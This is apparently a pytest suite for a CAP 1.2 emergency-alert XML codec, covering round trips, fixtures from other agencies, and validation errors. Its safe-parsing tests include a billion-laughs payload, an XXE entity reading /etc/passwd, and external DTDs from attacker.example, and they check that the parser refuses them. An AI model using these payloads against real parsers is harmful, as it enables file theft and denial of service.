"""The CAP 1.2 codec: round trips, documents of other agencies, every refusal naming its element, safe parsing."""

from __future__ import annotations

import random
import time
import xml.etree.ElementTree as ET
from dataclasses import replace
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest

from alertbot.content import cap
from alertbot.content.cap import Alert, Area, CapError, Geocode, Info, Parameter, Reference, Resource

DATA = Path(__file__).parents[2] / "data" / "cap"
CST = timezone(timedelta(hours=8))
NS = "{" + cap.NAMESPACE + "}"


def _alert() -> Alert:
    sent = datetime(2026, 12, 1, 8, 0, tzinfo=CST)
    district = Area(
        "东城区 Dongcheng",
        polygons=("39.95,116.38 39.95,116.45 39.88,116.45 39.88,116.38 39.95,116.38",),
        geocodes=(Geocode("GB/T 2260", "110101"), Geocode("district", "dongcheng")),
    )
    station = Area(
        "燃气调压站周边 500 米",
        circles=("39.91,116.40 0.5",),
        geocodes=(Geocode("GB/T 2260", "110102"),),
        altitude=120.0,
        ceiling=450.5,
    )
    chinese = Info(
        categories=("Safety", "Infra"),
        event="燃气泄漏",
        urgency="Immediate",
        severity="Severe",
        certainty="Observed",
        language="zh-CN",
        response_types=("Evacuate", "Avoid"),
        audience="居民",
        event_codes=(Parameter("alertbot", "gas-leak"),),
        effective=sent,
        onset=sent,
        expires=sent + timedelta(hours=6),
        sender_name="城市燃气应急中心",
        headline="东城区燃气泄漏，请立即撤离",
        description="调压站附近发现燃气泄漏。",
        instruction="请勿使用明火，立即离开。",
        web="https://gas.example.cn/alerts/1",
        contact="12319",
        parameters=(Parameter("level", "red"), Parameter("note", "")),
        resources=(Resource("地图", "image/png", uri="https://gas.example.cn/map.png", size=2048, digest="ab12"),),
        areas=(district, station),
    )
    english = replace(
        chinese,
        language="en-US",
        event="Gas leak",
        audience="residents",
        sender_name="City gas emergency centre",
        headline="Gas leak in Dongcheng: leave now",
        description="A gas leak was found near the regulator station.",
        instruction="No open flames; leave at once.",
        resources=(),
        areas=(replace(district, description="Dongcheng"), replace(station, description="500 m around the station")),
    )
    return Alert(
        identifier="gas-2026-12-01-0001",
        sender="alerts@gas.example.cn",
        sent=sent,
        status="Actual",
        msg_type="Update",
        scope="Public",
        source="dispatch",
        codes=("alertbot:1", "profile:demo"),
        note="Second issue",
        references=(
            Reference("alerts@gas.example.cn", "gas-2026-12-01-0000", sent - timedelta(minutes=30)),
            Reference("ops@gas.example.cn", "ops-17", datetime(2026, 12, 1, 0, 0, tzinfo=UTC)),
        ),
        incidents="gas-2026-12-01",
        infos=(chinese, english),
    )


def test_round_trip_gives_an_equal_alert() -> None:
    alert = _alert()
    assert cap.loads(cap.dumps(alert)) == alert
    assert cap.loads(cap.dumps(alert).decode()) == alert


def test_dumps_declares_the_namespace_and_writes_the_schema_order() -> None:
    data = cap.dumps(_alert())
    assert data.startswith(
        b'<?xml version="1.0" encoding="UTF-8"?>\n<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">'
    )
    root = ET.fromstring(data)
    alert_order = ["identifier", "sender", "sent", "status", "msgType", "source", "scope", "code", "code", "note",
                   "references", "incidents", "info", "info"]  # fmt: skip
    assert [child.tag.removeprefix(NS) for child in root] == alert_order
    info = root.find(f"{NS}info")
    assert info is not None
    assert [child.tag.removeprefix(NS) for child in info] == [
        "language", "category", "category", "event", "responseType", "responseType", "urgency", "severity",
        "certainty", "audience", "eventCode", "effective", "onset", "expires", "senderName", "headline",
        "description", "instruction", "web", "contact", "parameter", "parameter", "resource", "area", "area",
    ]  # fmt: skip
    resource = info.find(f"{NS}resource")
    assert resource is not None
    assert [child.tag.removeprefix(NS) for child in resource] == ["resourceDesc", "mimeType", "size", "uri", "digest"]
    area = info.findall(f"{NS}area")[1]
    assert [child.tag.removeprefix(NS) for child in area] == ["areaDesc", "circle", "geocode", "altitude", "ceiling"]
    assert b"ops@gas.example.cn,ops-17,2026-12-01T00:00:00-00:00" in data  # UTC as -00:00
    assert b"\n  <info>\n    <language>zh-CN</language>" in data  # pretty-printed


def test_date_times_are_strict_cap() -> None:
    assert cap.format_datetime(datetime(2026, 12, 1, 8, 0, 0, 999, tzinfo=CST)) == "2026-12-01T08:00:00+08:00"
    assert cap.format_datetime(datetime(2026, 12, 1, tzinfo=UTC)) == "2026-12-01T00:00:00-00:00"
    assert cap.format_datetime(datetime(2026, 12, 1, tzinfo=timezone(-timedelta(hours=3, minutes=30)))).endswith(
        "-03:30"
    )
    assert cap.parse_datetime("2026-12-01T08:00:00+00:00", "x") == datetime(2026, 12, 1, 8, tzinfo=UTC)
    assert cap.parse_datetime("2026-12-01T08:00:00-00:00", "x").utcoffset() == timedelta(0)
    for text in ("2026-12-01T08:00:00Z", "2026-12-01T08:00:00.5+08:00", "2026-12-01 08:00:00+08:00",
                 "2026-12-01T08:00+08:00", "2026-02-30T08:00:00+08:00", "2026-12-01T08:00:00+08:60"):  # fmt: skip
        with pytest.raises(CapError) as error:
            cap.parse_datetime(text, "alert/sent")
        assert error.value.element == "alert/sent"
    with pytest.raises(ValueError, match="UTC offset"):
        cap.format_datetime(datetime(2026, 12, 1))  # noqa: DTZ001 - naive on purpose


def _load(name: str) -> Alert:
    return cap.loads((DATA / name).read_bytes())


def test_oasis_homeland_security_example() -> None:
    alert = _load("oasis_homeland_security.xml")
    assert (alert.identifier, alert.sender, alert.msg_type) == ("43b080713727", "hsas@dhs.gov", "Alert")
    assert alert.sent == datetime(2003, 4, 2, 19, 39, 1, tzinfo=UTC)
    (info,) = alert.infos
    assert info.language == "en-US" and info.categories == ("Security",)
    assert info.parameters == (Parameter("HSAS", "ORANGE"),)
    assert info.resources == (
        Resource("Image file (GIF)", "image/gif", uri="http://www.dhs.gov/dhspublic/getAdvisoryImage"),
    )
    assert info.description is not None and info.description.startswith("The Department") and "\n" in info.description
    assert info.instruction is not None and info.instruction.startswith("A High Condition")  # stripped


def test_oasis_thunderstorm_example_nws() -> None:
    (info,) = _load("oasis_thunderstorm.xml").infos
    assert info.response_types == ("Shelter",) and info.event_codes == (Parameter("SAME", "SVR"),)
    (area,) = info.areas
    assert area.polygons == ("38.47,-120.14 38.34,-119.95 38.52,-119.74 38.62,-119.89 38.47,-120.14",)
    assert [geocode.value for geocode in area.geocodes] == ["006109", "006009", "006003"]


def test_oasis_earthquake_example_is_an_update() -> None:
    alert = _load("oasis_earthquake.xml")
    assert alert.msg_type == "Update"
    assert alert.references == (
        Reference(
            "trinet@caltech.edu", "TRI13970876.1", datetime(2003, 6, 11, 20, 30, tzinfo=timezone(-timedelta(hours=7)))
        ),
    )
    assert alert.infos[0].areas[0].circles == ("32.9525,-115.5527 0",)
    assert len(alert.infos[0].parameters) == 5


def test_oasis_amber_example_has_two_languages() -> None:
    alert = _load("oasis_amber.xml")
    assert [info.language for info in alert.infos] == ["en-US", "es-US"]
    assert alert.infos[1].event == "Abducción de Niño" and alert.source == "SW"


def test_ntwc_tsunami_cancellation_ignores_the_signature() -> None:
    alert = _load("ntwc_tsunami_cancellation.xml")
    assert [ref.identifier for ref in alert.references] == ["PAAQ-1-mg5a94", "PAAQ-2-mg5a94", "PAAQ-3-mg5a94"]
    assert alert.sent.utcoffset() == timedelta(0) and alert.incidents == "mg5a94" and alert.codes == ("IPAWSv1.0",)
    (info,) = alert.infos
    assert info.certainty == "Unlikely" and info.response_types == ("None",)
    assert (
        Parameter("NWSUGC", "BCZ220-210-922-912-921-911-110-AKZ026>029-023-024-019>022-025-051258-") in info.parameters
    )


def test_ipaws_local_area_emergency() -> None:
    alert = _load("ipaws_local_area_emergency.xml")
    assert alert.source == "Montgomery County, MD" and alert.identifier == alert.sender == "402013233923688"
    (info,) = alert.infos
    assert info.severity == "Extreme" and info.event_codes == (Parameter("SAME", "LAE"),)
    assert info.resources[0].deref_uri is not None and info.resources[0].mime_type == "image/jpeg"
    (area,) = info.areas
    assert len(area.polygons[0].split()) == 41 and area.geocodes == (Geocode("SAME", "024031"),)


def test_environment_canada_english_and_french() -> None:
    alert = _load("eccc_special_weather_statement.xml")
    assert alert.identifier == "urn:oid:2.49.0.1.124.1576205950.2019" and len(alert.codes) == 6
    assert alert.references[0].identifier == "urn:oid:2.49.0.1.124.4119129247.2019"
    english, french = alert.infos
    assert (english.language, french.language) == ("en-CA", "fr-CA")
    assert french.description is not None and "l'Ontario" in french.description
    assert english.areas[0].polygons[0].split()[0] == "48.5448,-89.0388"  # a polygon across several lines
    assert Geocode("profile:CAP-CP:Location:0.3", "3558090") in french.areas[0].geocodes


def test_met_norway_style() -> None:
    alert = _load("metno_forest_fire.xml")
    assert alert.sender == "urn:oid:2.49.0.0.578.0"
    assert [info.language for info in alert.infos] == ["no", "en-GB"]
    assert alert.infos[0].categories == ("Met", "Fire")
    assert Parameter("awareness_level", "3; orange; Severe") in alert.infos[1].parameters


def test_china_meteorological_style() -> None:
    alert = _load("cma_rainstorm_zh.xml")
    chinese = alert.infos[0]
    assert chinese.language == "zh-CN" and chinese.event == "暴雨" and chinese.sender_name == "深圳市气象台"
    assert chinese.areas[0].geocodes == (Geocode("GB/T 2260", "440300"),)
    assert chinese.expires == datetime(2026, 6, 1, 12, 0, tzinfo=UTC)


@pytest.mark.parametrize("name", sorted(path.name for path in DATA.glob("*.xml")))
def test_every_fixture_survives_a_round_trip(name: str) -> None:
    alert = _load(name)
    assert cap.loads(cap.dumps(alert)) == alert


BASE = """<?xml version="1.0" encoding="UTF-8"?>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2">
  <identifier>A-1</identifier>
  <sender>ops@gas.example</sender>
  <sent>2026-12-01T08:00:00+08:00</sent>
  <status>Actual</status>
  <msgType>Alert</msgType>
  <scope>Public</scope>
  <info>
    <language>zh-CN</language><category>Safety</category><event>燃气泄漏</event>
    <urgency>Immediate</urgency><severity>Severe</severity><certainty>Observed</certainty>
    <area><areaDesc>东城区</areaDesc><polygon>39.9,116.3 39.9,116.4 39.8,116.4 39.9,116.3</polygon></area>
  </info>
  <info>
    <category>Safety</category><event>Gas leak</event>
    <urgency>Expected</urgency><severity>Severe</severity><certainty>Observed</certainty>
  </info>
</alert>"""


def _refused(document: str | bytes) -> CapError:
    with pytest.raises(CapError) as error:
        cap.loads(document)
    return error.value


def test_the_base_document_loads() -> None:
    assert len(cap.loads(BASE).infos) == 2


@pytest.mark.parametrize(
    ("old", "new", "element", "problem"),
    [
        ("<identifier>A-1</identifier>", "", "alert/identifier", "is required"),
        ("<identifier>A-1</identifier>", "<identifier>A 1</identifier>", "alert/identifier", "must not contain"),
        (
            "<status>Actual</status>",
            "<status>Real</status>",
            "alert/status",
            "must be one of Actual, Exercise, System, Test, Draft",
        ),
        (
            "<urgency>Expected</urgency>",
            "<urgency>Soon</urgency>",
            "alert/info[2]/urgency",
            "must be one of Immediate, Expected, Future, Past, Unknown",
        ),
        (
            "<msgType>Alert</msgType>",
            "<msgType>Cancel</msgType>",
            "alert/references",
            "is required when msgType is Cancel",
        ),
        (
            "<scope>Public</scope>",
            "<scope>Public</scope><references>ops@gas.example,A-0</references>",
            "alert/references",
            "sender,identifier,sent",
        ),
        (
            "<scope>Public</scope>",
            "<scope>Public</scope><references>ops@gas.example,A-0,yesterday</references>",
            "alert/references",
            "CAP date-time",
        ),
        (
            "39.8,116.4 39.9,116.3</polygon>",
            "39.8,116.4 39.8,116.3</polygon>",
            "alert/info[1]/area[1]/polygon",
            "is not closed",
        ),
        ("<polygon>39.9,116.3 39.9,116.4 ", "<polygon>39.9,116.3 ", "alert/info[1]/area[1]/polygon", "at least 4"),
        (
            "<polygon>39.9,116.3 39.9,116.4 ",
            "<polygon>39.9,116.3 99.9,116.4 ",
            "alert/info[1]/area[1]/polygon",
            "off the globe",
        ),
        ("</polygon>", "</polygon><circle>39.9,116.3</circle>", "alert/info[1]/area[1]/circle", "lat,lon radius"),
        ("<sent>2026-12-01T08:00:00+08:00</sent>", "<sent>2026-12-01T00:00:00Z</sent>", "alert/sent", "no Z"),
        ("<language>zh-CN</language>", "<language>zh_CN</language>", "alert/info[1]/language", "RFC 3066"),
        (
            "<category>Safety</category><event>Gas",
            "<category>Gas</category><event>Gas",
            "alert/info[2]/category",
            "must be one of Geo, Met",
        ),
        ("<areaDesc>东城区</areaDesc>", "", "alert/info[1]/area[1]/areaDesc", "is required"),
        ("<scope>Public</scope>", "<scope>Restricted</scope>", "alert/restriction", "when scope is Restricted"),
        ("<scope>Public</scope>", "<scope>Private</scope>", "alert/addresses", "when scope is Private"),
        ("<status>Actual</status>", "<status>Actual</status><status>Test</status>", "alert/status", "only once"),
        ("<scope>Public</scope>", "<scope>Public</scope><colour>red</colour>", "alert/colour", "not an element"),
        ("<event>Gas leak</event>", "<event><b>Gas</b></event>", "alert/info[2]/event", "text, not elements"),
    ],
)
def test_refusals_name_the_element(old: str, new: str, element: str, problem: str) -> None:
    assert old in BASE
    error = _refused(BASE.replace(old, new, 1))
    assert error.element == element
    assert problem in error.problem
    assert str(error) == f"{element}: {error.problem}"


def test_extensions_are_ignored_and_very_likely_is_likely() -> None:
    document = BASE.replace(
        "<scope>Public</scope>", '<scope>Public</scope><x:colour xmlns:x="urn:example:ext"><x:a/>red</x:colour>'
    ).replace("<certainty>Observed</certainty>", "<certainty>Very Likely</certainty>", 1)
    alert = cap.loads(document)
    assert alert.infos[0].certainty == "Likely"
    with pytest.raises(CapError, match="certainty"):
        cap.dumps(replace(alert, infos=(replace(alert.infos[0], certainty="Very Likely"),)))


def test_older_cap_versions_are_named() -> None:
    error = _refused(BASE.replace(cap.NAMESPACE, "urn:oasis:names:tc:emergency:cap:1.1"))
    assert (error.element, error.problem) == ("alert", "CAP 1.1 is not supported; send CAP 1.2")
    assert _refused(BASE.replace(cap.NAMESPACE, "http://www.incident.com/cap/1.0")).problem.startswith("CAP 1.0")
    assert _refused("<feed xmlns='http://www.w3.org/2005/Atom'/>").element == "document"


def test_not_xml() -> None:
    error = _refused(b"this is not XML")
    assert error.element == "document" and error.problem == "not well-formed XML: line 1, column 0"
    assert _refused(BASE.replace("</sender>", "</sendr>")).problem.startswith("not well-formed XML: line 4,")
    assert _refused(b"").element == "document"
    assert _refused("<alert>\ud800</alert>").element == "document"
    assert _refused(b'<?xml version="1.0" encoding="no-such"?><alert/>').element == "document"


def test_too_large_is_refused_before_parsing() -> None:
    note = "<note>" + "x" * cap.MAX_BYTES + "</note>"
    error = _refused(BASE.replace("<scope>Public</scope>", "<scope>Public</scope>" + note).encode())
    assert error.element == "document" and "more than" in error.problem
    started = time.perf_counter()
    assert _refused(b"<" * (50 * cap.MAX_BYTES)).element == "document"  # not even looked at
    assert time.perf_counter() - started < 0.5


def test_too_deep_is_refused() -> None:
    deep = "<x:a xmlns:x='urn:example:ext'>" * cap.MAX_DEPTH + "</x:a>" * cap.MAX_DEPTH
    error = _refused(BASE.replace("<scope>Public</scope>", "<scope>Public</scope>" + deep))
    assert (error.element, error.problem) == ("document", f"elements nest deeper than {cap.MAX_DEPTH} levels")
    assert _refused(b"<a>" * 150_000).element == "document"
    shallow = "<x:a xmlns:x='urn:example:ext'>" * (cap.MAX_DEPTH - 1) + "</x:a>" * (cap.MAX_DEPTH - 1)
    assert cap.loads(BASE.replace("<scope>Public</scope>", "<scope>Public</scope>" + shallow))


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE alert [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol9;</identifier></alert>"""


def test_billion_laughs_is_refused_at_once() -> None:
    started = time.perf_counter()
    error = _refused(BILLION_LAUGHS.encode())
    assert time.perf_counter() - started < 1
    assert error.element == "document" and "DTD" in error.problem


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',  # an external entity (XXE)
        '<!DOCTYPE alert [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>',
        '<!DOCTYPE alert SYSTEM "http://attacker.example/cap.dtd">',
        "<!DOCTYPE alert>",  # a DTD that declares nothing is refused all the same
    ],
)
def test_any_dtd_is_refused(doctype: str) -> None:
    body = BASE.split("\n", 1)[1]
    if "xxe" in doctype:
        body = body.replace("<identifier>A-1</identifier>", "<identifier>&xxe;</identifier>")
    error = _refused(f'<?xml version="1.0"?>\n{doctype}\n{body}')
    assert error.element == "document" and "DTD" in error.problem


def test_validate_checks_alerts_built_in_code() -> None:
    alert = _alert()
    cap.validate(alert)
    naive = replace(alert, sent=datetime(2026, 12, 1, 8, 0))  # noqa: DTZ001 - naive on purpose
    cases = [
        (naive, "alert/sent"),
        (replace(alert, scope="Restricted"), "alert/restriction"),
        (replace(alert, references=()), "alert/references"),
        (replace(alert, identifier="a,b"), "alert/identifier"),
        (replace(alert, note="bell \x07"), "alert/note"),
        (replace(alert, infos=(alert.infos[0], replace(alert.infos[1], severity="Bad"))), "alert/info[2]/severity"),
        (replace(alert, infos=(replace(alert.infos[0], categories=()),)), "alert/info[1]/category"),
        (replace(alert, infos=(replace(alert.infos[0], areas=(Area("x", ceiling=1.0),)),)),
         "alert/info[1]/area[1]/ceiling"),
        (replace(alert, infos=(replace(alert.infos[0], resources=(Resource("map", "image/png", size=-1),)),)),
         "alert/info[1]/resource[1]/size"),
        (replace(alert, infos=(replace(alert.infos[0], parameters=(Parameter("", "x"),)),)),
         "alert/info[1]/parameter[1]/valueName"),
        (replace(alert, status=None), "alert/status"),  # type: ignore[arg-type]
    ]  # fmt: skip
    for broken, element in cases:
        with pytest.raises(CapError) as error:
            cap.dumps(broken)
        assert error.value.element == element, broken


def test_loads_raises_nothing_but_cap_error() -> None:
    seed = cap.dumps(_alert())
    rng = random.Random(20261201)
    outcomes = {"alert": 0, "refused": 0}
    for _ in range(300):
        data = bytearray(seed)
        for _ in range(rng.randint(1, 8)):
            position = rng.randrange(len(data))
            action = rng.random()
            if action < 0.4:
                data[position] = rng.randrange(256)
            elif action < 0.6:
                del data[position : position + rng.randint(1, 40)]
            elif action < 0.8:
                data[position:position] = rng.choice([b"<", b">", b"&", b"&amp;", b"]]>", b"<!--", b"\x00", b" ", b","])
            else:
                start = rng.randrange(len(data))
                data[position:position] = data[start : start + rng.randint(1, 200)]
        try:
            assert isinstance(cap.loads(bytes(data)), Alert)
            outcomes["alert"] += 1
        except CapError:
            outcomes["refused"] += 1
    assert outcomes["refused"] > 0
